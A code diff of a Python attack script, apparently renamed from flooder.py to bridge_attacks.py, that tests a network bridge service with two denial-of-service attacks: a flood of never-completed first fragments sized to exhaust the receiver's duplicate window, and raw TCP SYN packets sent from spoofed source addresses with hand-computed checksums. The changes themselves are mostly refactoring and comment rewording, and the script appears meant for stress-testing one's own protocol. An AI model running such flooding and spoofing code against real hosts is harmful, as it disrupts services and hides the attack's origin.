@@ -1,8 +1,10 @@
-"""Attacks on a bridge from its network: flooder.py fragments ADDRESS PER_S SECONDS | flooder.py syns ADDRESS DEVICE.
+"""Attacks on a bridge from the underlay.
 
-`fragments` sends first fragments of frames that never go on, as a peer with a link in clear text can. `syns` opens
-connections from addresses that are not its own: a few that it counts the answers to, and many. It prints the bytes of
-the few, those of their answers, and how many the others were.
+Usage: bridge_attacks.py fragments ADDRESS PER_S SECONDS | bridge_attacks.py syns ADDRESS DEVICE
+
+`fragments` sends first fragments of frames that are never completed, as a peer with a link in clear text can; it prints
+how many. `syns` opens connections from spoofed addresses: a few whose answers it counts, and many others. It prints the
+bytes of the few, those of their answers, and the number of the others.
 """
 
 import random
@@ -10,6 +12,8 @@ import socket
 import struct
 import sys
 import time
+
+from inet import checksum
 
 PORT = 9000
 FRAGMENT = struct.Struct("!BBHIQ")
@@ -29,7 +33,7 @@ def fragments(address: str, per_s: int, seconds: float) -> None:
     sent = 0
     while time.monotonic() < begin + seconds:
         for _ in range(BATCH):
-            # Named one after the other, so that as many as can be are within what a receiver remembers.
+            # Numbers in a row: as many as possible are within the receiver's duplicate window.
             own.sendto(FRAGMENT.pack(0x10, 0, 0, 1 << 8, number).ljust(1456, b"x"), (address, PORT))
             number += 1
         sent += BATCH
@@ -37,14 +41,8 @@ def fragments(address: str, per_s: int, seconds: float) -> None:
     print(sent)
 
 
-def checksum(data: bytes) -> int:
-    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
-    total = (total & 0xFFFF) + (total >> 16)
-    return ~(total + (total >> 16)) & 0xFFFF
-
-
 def syn(source: str, address: str, port: int) -> bytes:
-    """An IPv4 packet with a SYN and no option, as small as one can be."""
+    """The smallest SYN: IPv4 and TCP without options."""
     ends = socket.inet_aton(source) + socket.inet_aton(address)
     tcp = struct.pack("!HHIIBBHHH", port, PORT, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
     sum_ = checksum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
